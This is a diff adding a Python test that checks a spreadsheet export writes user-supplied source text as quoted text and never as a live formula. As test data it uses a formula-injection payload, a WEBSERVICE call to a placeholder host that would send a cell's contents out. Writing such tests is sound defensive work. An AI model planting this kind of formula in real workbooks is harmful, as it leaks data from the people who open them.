@@ -486,6 +486,24 @@ def test_scenario_text_is_never_a_formula(custom_scenario: Scenario) -> None:
         assert text in found, text
 
 
+def test_an_input_source_the_scenario_gives_is_never_a_formula() -> None:
+    """A scenario's own source text (assumptions.mfu_source) is written as text even when it starts with "=":
+    only the looked-up inputs' sources are the workbook's own formulas (a user's review found
+    =HYPERLINK(…&B16) in the Inputs sheet's source column, live, sending the scenario's name away)."""
+    payload = '=WEBSERVICE("http://example.invalid/"&B16)'
+    wb = roundtrip(build_workbook(estimate(scenario_with(assumptions__mfu_source=payload)), "en"))
+    found = []
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for c in row:
+                if c.data_type == "f":
+                    assert "WEBSERVICE" not in c.value, (ws.title, c.coordinate)
+                elif c.value == payload:
+                    assert c.quotePrefix, (ws.title, c.coordinate)
+                    found.append((ws.title, c.column))
+    assert (sheet(wb, "inputs").title, 4) in found  # the MFU row's source column holds it, as text
+
+
 def test_custom_accelerator_and_arch_join_the_catalog(custom_scenario: Scenario) -> None:
     wb = roundtrip(build_workbook(estimate(custom_scenario), "en"))
     hw = sheet(wb, "hardware")
